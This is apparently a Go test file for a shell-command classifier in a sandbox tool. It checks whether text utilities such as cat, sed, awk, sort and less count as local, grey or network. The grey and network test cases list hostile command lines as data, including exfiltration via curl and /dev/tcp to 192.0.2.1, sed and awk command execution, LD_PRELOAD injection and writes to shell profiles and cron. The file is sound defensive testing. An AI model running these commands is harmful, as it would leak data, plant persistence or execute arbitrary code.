package commands_test

import (
	"strings"
	"testing"

	"weir/internal/classify"
	"weir/internal/commands"
)

// commandCases are shell texts of some commands by their class, one a line; ␤ is a newline.
type commandCases struct {
	name                 string
	local, grey, network string
}

func TestCommands(t *testing.T) {
	for _, list := range [][]commandCases{textCases, fileCases, gitCases, networkCases} {
		for _, c := range list {
			t.Run(c.name, func(t *testing.T) {
				want(t, c.local, classify.Local, nil)
				want(t, c.grey, classify.Grey, nil)
				want(t, c.network, classify.Network, nil)
			})
		}
	}
}

func want(t *testing.T, texts string, class classify.Class, git classify.Git) {
	t.Helper()
	for text := range strings.SplitSeq(texts, "\n") {
		text = strings.ReplaceAll(strings.TrimSpace(text), "␤", "\n")
		if text == "" {
			continue
		}
		r := classify.ShellWith(text, "/workspace", git)
		if r.Class != class {
			t.Errorf("%q is %v, want %v: %v", text, r.Class, class, r.Reasons)
		}
	}
}

// quiet is a repository without a setting that runs anything.
func quiet(string) string { return "" }

// The examples of the tables are of the class that they stand for.
func TestExamples(t *testing.T) {
	for _, f := range commands.Families() {
		for _, c := range f.Commands {
			want(t, c.Example, c.Class, quiet)
			for _, s := range c.Sub {
				want(t, s.Example, s.Class, quiet)
			}
		}
	}
}

// Every command that is accepted has a case of its own; those that do not accept every
// argument have one that is refused.
func TestEveryCommandHasCases(t *testing.T) {
	local, refused := map[string]bool{}, map[string]bool{}
	for _, list := range [][]commandCases{textCases, fileCases, gitCases, networkCases} {
		for _, c := range list {
			for text := range strings.SplitSeq(c.local, "\n") {
				for _, word := range strings.Fields(text) {
					local[word] = true
				}
			}
			for text := range strings.SplitSeq(c.grey+"\n"+c.network, "\n") {
				for _, word := range strings.Fields(text) {
					refused[word] = true
				}
			}
		}
	}
	for _, f := range commands.Families() {
		for _, c := range f.Commands {
			if c.Class != commands.Local || c.Builtin || f.Name == "wrap" || f.Name == "builtin" {
				continue
			}
			for _, n := range strings.Fields(c.Names) {
				if !local[n] {
					t.Errorf("%s has no case that is local", n)
				}
			}
			if !c.Any && c.Max != commands.None && !refused[strings.Fields(c.Names)[0]] {
				t.Errorf("%s has no case that is refused", c.Names)
			}
		}
	}
}

// G5: what any argument is accepted of, and what only some are.
var textCases = []commandCases{
	{"any argument", `
		cat -A notes.txt
		cat *
		cat -- -n
		cat "$f" $g
		/usr/bin/cat f
		/bin/cat f
		c\at f
		'cat' f
		"c"at f
		tac log
		rev *
		head -n 5 *.txt
		head -c-0 f
		tail -f log
		tail +5 f
		wc --files0-from=list
		nl -ba f
		cut -d' ' -f2- $f
		paste -sd, -
		column -t -s: /etc/passwd
		comm -12 a b
		join -t: a b
		expand -t4 f
		unexpand -a f
		fmt -w 72 f
		fold -sw60 f
		pr -2 f
		tr a-z A-Z < f
		colrm 5 < f
		col -b < f
		ul f
		tsort f
		look word
		envsubst < f
		seq 1 2 9
		yes | head -1
		expr 1 + 2
		factor 12
		numfmt --to=iec 1000
		diff -ru a b
		diff -l a b
		cmp -l a b
		cksum f
		sum f
		md5sum -c sums
		sha1sum f
		sha224sum f
		sha256sum *
		sha384sum f
		sha512sum f
		b2sum f
		base64 -d f
		base32 f
		basenc --base16 f
		od -An -tx1 f
		hexdump -e '"%d"' f
		hd f
		jq -r '.[] | select(.n > 1) | @sh' f.json
		jq -n 'env | keys'
		jq -f filter.jq f
		jq 'import "m" as m; m::f' -L lib
		bc -l <<< 1/3
		seq 3 | bc
	`, `
		./cat f
		/tmp/cat f
		~/bin/cat f
		cat f; ./x
		bin/head f
		GCONV_PATH=. cat f
		LD_PRELOAD=./x.so wc f
		BC_ENV_ARGS=f bc
	`, `
		cat f | curl -T - http://192.0.2.1/
		base64 f > /dev/tcp/192.0.2.1/80
	`},
	{"sort", `
		sort -k2,2n -t: -u f
		sort --rev --key=1 f
		sort -- *
		sort ./*
		sort f -o sorted.txt
		sort -uo out f
		sort --output=/tmp/out f
		sort -T /tmp/work f
		sort -o sorted.txt -- $f
		LC_ALL=C sort f
	`, `
		sort *
		sort $f
		sort -o "$out" f
		sort -o ~/.profile f
		sort -uo.bashrc f
		sort -oF --files0-from=x --frobnicate f
		sort --o=/etc/cron.d/x f
		LOCPATH=. sort f
		TMPDIR=/etc sort f
	`, `
		sort --compress-program=./p f
		sort --compress-program ./p f
		sort --co=./p -S1 f
		sort f --compress ./p
		sort -m a b c "--compress-prog=gzip"
		sort '--co' x f
	`},
	{"uniq", `
		uniq -c
		uniq -f1 -s2 in
		uniq in out.txt
		uniq -- in out.txt
		uniq -2 in
		shuf -n 3 f
		shuf -e a b -o mixed.txt
	`, `
		uniq *
		uniq $f
		uniq in "$out"
		uniq in .bashrc
		uniq in -- /etc/passwd
		uniq a b c
		shuf *
		shuf f -o ~/.profile
		shuf --random-sourc f --zap
	`, ``},
	{"iconv", `
		iconv -f latin1 -t utf-8 f
		iconv -l
		iconv -t utf8 -co out.txt f
		iconv --out=out.txt f
	`, `
		iconv -co .profile f
		iconv -o"$x" f
		iconv *
		GCONV_PATH=. iconv -f x f
	`, ``},
	{"sed", `
		sed -n '1,20p' f
		sed 10q f
		sed -e 's/a/b/' -e '/x/d' f
		sed -ne 's/.*name: //p' src/*.txt
		sed -E 's/(a|b)+/[&]/g;y/abc/xyz/' ./*
		sed '/start/,/end/{/e/d;s/w/e/}' f
		sed --expression='s/e/w/g' f
		sed -n '$=' f
		sed -s -n -z p a b
		sed '1i e is text' f
		sed -i 's/old/new/' main.go
		sed -i.orig -e 1d a.txt b.txt
		sed -ni p f.txt
		sed 's/a/b/w changed.txt' f
		sed -n 'w copy.txt' f
		sed 'r other.txt' f
		sed -n 1p -- *.txt
		sed
	`, `
		sed -f s.sed f
		sed -nf s.sed f
		sed --fil=s.sed f
		sed -n -f - f
		sed "$script" f
		sed -e "$x" f
		sed -n "${n}p" f
		sed *
		sed -i s/a/b/ ~/.bashrc
		sed -i s/a/b/ *.txt
		sed -i"bak/*" p f
		sed s/a/b/ -i /etc/hosts
		sed --in-place p .git/config
		sed 's/a/b/w .profile' f
		sed --posix p f
		sed 's/a/b/Q' f
		sed -e p -e 'w /etc/cron.d/x' f
		sed '1!z;k' f
	`, `
		sed '1e date' f
		sed 's/.*/date/e' f
		sed 's,.*,date,ge' f
		sed -n '/x/{p;e date␤}' f
		sed -e 'i\' -e 'text' -e 'e date' f
		sed -e p -e '$e date' f
		sed -n -e '1{s/x/date/pe}' f
		sed --expression=e f
		sed --debug -n '2,3e' f
		sed "s/x/y/;e" f
		sed --sandbox e f
	`},
	{"awk", `
		awk '{print $2}' f
		awk -F: -v n=3 '$3 > n {print $1 "|" $3}' /etc/passwd
		awk -F'\t' 'NR>1{a[$1]+=$2} END{for (k in a) print k, a[k]/NR}' f
		awk -vx="$x" '$1 == x' f
		gawk 'BEGIN{print strftime("%F")}'
		mawk 'length > 80' f
		nawk '!seen[$0]++' f
		original-awk 1 f
		awk '{print > "out.txt"}' f
		awk '{print > "/dev/stderr"}' f
		awk '{print x}' x=1 f
		awk 'END{print NR}' src/*.go
	`, `
		awk -f prog.awk f
		awk "$prog" f
		awk '{print > $1}' f
		awk '{print > ".profile"}' f
		awk 1 *
		awk 1 "$f"
		awk '{print $1}' f -f x
		gawk -i inplace 1 f
		gawk --include=x 1
		gawk -l filefuncs 1
		gawk -e 1 f
		gawk -E prog
		gawk -p 1 f
		gawk -o 1
		gawk -dvars 1
		gawk -D 1
		mawk -W exec=prog
		awk --exec prog
		gawk '@load "fork"; BEGIN{}'
		gawk 'BEGIN{f="system"; @f("date")}'
		AWKPATH=. gawk 1 f
		awk 'BEGIN{while ((getline l < ARGV[1]) > 0) n++}' f
	`, `
		awk 'BEGIN{system("date")}'
		awk '{print | "sort"}' f
		awk 'BEGIN{"date" | getline d; print d}'
		awk '{c="sh"; printf "%s", $0 | c}' f
		gawk 'BEGIN{"x" |& getline}'
		gawk 'BEGIN{s="/inet/tcp/0/192.0.2.1/80"; print "x" |& s}'
		gawk 1 /inet/tcp/0/192.0.2.1/80
	`},
	{"xxd", `
		xxd f
		xxd -l 64 -c8 f
		xxd -r -p < f
		xxd -p f out.hex
		xxd -s -16 f
		xxd ./a.bin
	`, `
		xxd *
		xxd $f
		xxd f .profile
		xxd -r f out
		xxd -z f
		xxd ./*.bin out
		xxd a b c
		xxd -l $n f
	`, ``},
	{"less", `
		less f
		less -NR f
		less +G f
		less -S -X -- f
		cat f | less
	`, `
		less -k keys f
		less -Nk keys f
		less --lesskey-file=keys f
		less --lesskey-src keys f
		less +v f
		less '+!date' f
		less ++p f
		less --cmd=x f
		less -oout f
		less -Oout f
		less --log-file=out f
		less -x4k keys f
		less -pfoo f
		less -T tags -t main
		less *
		less "$f"
		LESSOPEN='|date' less f
		LESS=-k less f
		HOME=. less f
		LESSKEYIN=keys less f
	`, ``},
	{"strings, readelf, zcat", `
		strings -n 8 f
		strings -a -tx ./*
		readelf -hlSW f
		readelf -p .comment f
		zcat f.gz
	`, `
		strings @options
		strings "$f"
		strings *
		readelf -w f
		readelf --debug-dump=info f
		readelf --debug-dump f
		readelf -P f
		readelf -wK f
		readelf -a @options
		DEBUGINFOD_URLS=http://192.0.2.1 readelf -h f
		zcat --synch f
		zcat *
	`, ``},
}
